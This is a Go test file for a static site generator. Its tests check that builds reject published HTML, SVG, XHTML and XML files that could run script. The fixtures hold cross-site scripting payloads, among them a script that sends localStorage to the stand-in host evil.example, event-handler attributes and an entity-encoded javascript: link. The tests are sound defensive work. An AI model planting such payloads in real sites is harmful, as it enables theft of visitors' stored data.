package generator

import (
	"testing"
)

// TestPublishedFilesRunNoScript adds one hostile file at a time to a
// site that built, and checks that the build fails at the file's offending
// construct and leaves the previous output as it was: with allowHTML off,
// no file published on the site's origin may run script.
func TestPublishedFilesRunNoScript(t *testing.T) {
	tests := []struct {
		name, file, content string
		want                []string // each must appear in the error
	}{{
		name: "handout reading answers",
		file: "content/before/handout.html",
		content: "<!doctype html>\n<title>Handout</title>\n<p>Read this first.</p>\n" +
			"<script>fetch('https://evil.example/?'+JSON.stringify(localStorage))</script>\n",
		want: []string{"content/before/handout.html:4:1: script element"},
	}, {
		name:    "svg with an event handler",
		file:    "static/crest.svg",
		content: "<svg xmlns=\"http://www.w3.org/2000/svg\">\n  <rect width=\"1\" height=\"1\"\n        onclick=\"alert(1)\"/>\n</svg>\n",
		want:    []string{"static/crest.svg:3:9: onclick attribute"},
	}, {
		name:    "entity-encoded javascript link in xhtml",
		file:    "content/notes.xhtml",
		content: "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body>\n<a href=\"&#106;ava&#x09;script:alert(1)\">x</a></body></html>\n",
		want:    []string{"content/notes.xhtml:2:4: href", "javascript:"},
	}, {
		name:    "xml with an xslt stylesheet",
		file:    "static/feed.xml",
		content: "<?xml version=\"1.0\"?>\n<?xml-stylesheet type=\"text/xsl\" href=\"feed.xsl\"?>\n<feed/>\n",
		want:    []string{"static/feed.xml:2:1: xml-stylesheet"},
	}, {
		name:    "stylesheet that cannot be checked",
		file:    "content/feed.xsl",
		content: "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"/>\n",
		want:    []string{"content/feed.xsl:1:1: .xsl files are not published while allowHTML is false"},
	}, {
		name:    "html under another name",
		file:    "content/handout",
		content: "<html><body onload=\"steal()\">\n",
		want:    []string{"content/handout:1:13: onload attribute", "a browser given no type reads it as HTML"},
	}, {
		name:    "unparseable svg",
		file:    "content/broken.svg",
		content: "<svg xmlns=\"http://www.w3.org/2000/svg\"><g></svg>\n",
		want:    []string{"content/broken.svg:1:", "not well-formed XML"},
	}}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := newTestSite(t, careerSite)
			s.build()
			before := s.snapshot()
			s.write(tt.file, tt.content)
			s.expectErrors(tt.want...)
			s.assertUnchanged(before)
		})
	}
}

// TestEveryUnsafeFileIsReported checks that all of a build's unsafe files
// are reported together, each at its place.
func TestEveryUnsafeFileIsReported(t *testing.T) {
	s := newTestSite(t, careerSite+`
-- content/a.html --
<p onmouseover="x()">A</p>
<iframe srcdoc="&lt;script&gt;x()&lt;/script&gt;"></iframe>
-- static/b.svg --
<svg xmlns="http://www.w3.org/2000/svg"><foreignObject/></svg>
`)
	s.expectErrors(
		"content/a.html:1:4: onmouseover attribute",
		"content/a.html:2:1: iframe element",
		"static/b.svg:1:41: foreignObject element",
	)
}

// TestPlainFilesArePublished checks that files that run no script are
// published, that a standalone HTML file gains a policy that forbids
// script wherever it is opened, and that allowHTML: true trusts authors
// with every file.
func TestPlainFilesArePublished(t *testing.T) {
	s := newTestSite(t, careerSite+`
-- content/before/handout.html --
<!DOCTYPE html>
<html lang="en"><head><title>Handout</title>
<style>h1 { color: #1f6f5c }</style></head>
<body><h1>Before we meet</h1><p><a href="drive/">Start</a> <img src="chart.svg" alt="chart"></p>
<svg viewBox="0 0 10 10"><use href="#dot"/><circle id="dot" r="1"/></svg></body></html>
-- content/before/chart.svg --
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">
  <style>circle { fill: teal }</style>
  <a xlink:href="https://example.edu/"><circle r="4"/></a>
</svg>
-- static/files/readme.txt --
Bring your CV.
-- static/files/agenda.txt --
<p>Agenda: goals, options, next steps.</p>
-- static/files/report.xml --
<?xml version="1.0"?><report><line>ok</line></report>
`)
	s.build()
	s.assertFile("before/handout.html", `<meta http-equiv=Content-Security-Policy content="script-src 'none'; object-src 'none'; base-uri 'none'">`, "Before we meet")
	s.assertFile("before/chart.svg", "<circle")
	s.assertFile("files/readme.txt", "Bring your CV.")
	if got := s.file("files/agenda.txt"); got != "<p>Agenda: goals, options, next steps.</p>\n" {
		t.Errorf("a text file that starts as HTML does was changed: %q", got)
	}
	s.assertFile("files/report.xml", "<line>ok</line>")
	s.assertFile("favicon.svg", "<svg")

	s.write("content/before/handout.html", "<script>alert(1)</script>")
	s.write("content/_index.md", "---\ntitle: Career companion\nallowHTML: true\n---\n")
	s.build()
	s.assertFile("before/handout.html", "<script>alert(1)</script>")
}

// TestServeChecksPublishedFiles checks that serve's builds in memory
// refuse an unsafe file as a build to disk does.
func TestServeChecksPublishedFiles(t *testing.T) {
	s := newTestSite(t, careerSite+`
-- static/x.svg --
<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>
`)
	s.serve().expectErrors(nil, "static/x.svg:1:41: script element")
}
